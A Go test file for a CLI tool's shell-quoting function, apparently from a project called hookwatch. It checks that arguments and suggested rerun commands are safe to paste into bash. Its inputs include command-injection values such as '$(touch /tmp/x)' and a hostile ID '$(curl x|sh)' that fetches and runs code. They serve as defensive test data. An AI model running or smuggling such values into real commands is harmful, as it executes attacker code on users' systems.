package cli

import (
	"os/exec"
	"strings"
	"testing"

	"hookwatch/suites"
)

// TestQuoteArg has a shell read what is written.
func TestQuoteArg(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash is not installed")
	}
	for _, word := range []string{"my-hooks", "../my hooks", "it's", "a[b]", "~", "#x", "!x", "{a,b}", "a\nb", "é", "$HOME", "`x`", "", "a=b", "=ls", "a!b", "!!", "$(touch /tmp/x)", "a;b", "-rf", "a\\"} {
		out, err := exec.CommandContext(t.Context(), bash, "-c", "cd /; printf %s "+quoteArg(word)).Output()
		if strings.HasPrefix(word, "-") {
			word = "./" + word // it names a file
		}
		if err != nil || string(out) != word {
			t.Errorf("%q is written %s, which is %q: %v", word, quoteArg(word), out, err)
		}
	}
	if got := quoteArg("../my-hooks"); got != "../my-hooks" {
		t.Errorf("a plain word is written %s", got)
	}
}

// TestQuoteArgInteractive: the history of an interactive shell takes no part.
func TestQuoteArgInteractive(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash is not installed")
	}
	for _, word := range []string{"a!b", "!!", "it's!x", "!echo"} {
		cmd := exec.CommandContext(t.Context(), bash, "--norc", "-o", "history", "-o", "histexpand")
		cmd.Stdin = strings.NewReader("echo gotcha >/dev/null\nprintf %s " + quoteArg(word) + "\n")
		out, err := cmd.Output()
		if err != nil || string(out) != word {
			t.Errorf("%q is written %s, which is %q: %v", word, quoteArg(word), out, err)
		}
	}
}

// TestRerunOffersNoMoreThanIsShown: a command that would not be shown as it is is
// not offered to be copied.
func TestRerunOffersNoMoreThanIsShown(t *testing.T) {
	t.Parallel()
	p := load(t, twoSuites(t))
	for dir, want := range map[string]string{
		"a b":      "hookwatch -C 'a b' run M1",
		"$(x)":     "hookwatch -C '$(x)' run M1",
		"-x":       "hookwatch -C ./-x run M1",
		"a!b":      "hookwatch -C 'a!b' run M1",
		"a\x1b[2J": "",
		"a\nb":     "",
		"a\u202eb": "",
		"a\xff":    "",
		"\u3164":   "",
	} {
		if got := (&app{dir: dir}).rerun(p)(suites.Key{Suite: "more", ID: "M1"}); got != want {
			t.Errorf("in %q: %q is offered, want %q", dir, got, want)
		}
	}
	if got := (&app{}).rerun(p)(suites.Key{Suite: "s", ID: "$(curl x|sh)"}); got != "hookwatch run '$(curl x|sh)'" {
		t.Errorf("a hostile ID: %q is offered", got)
	}
}
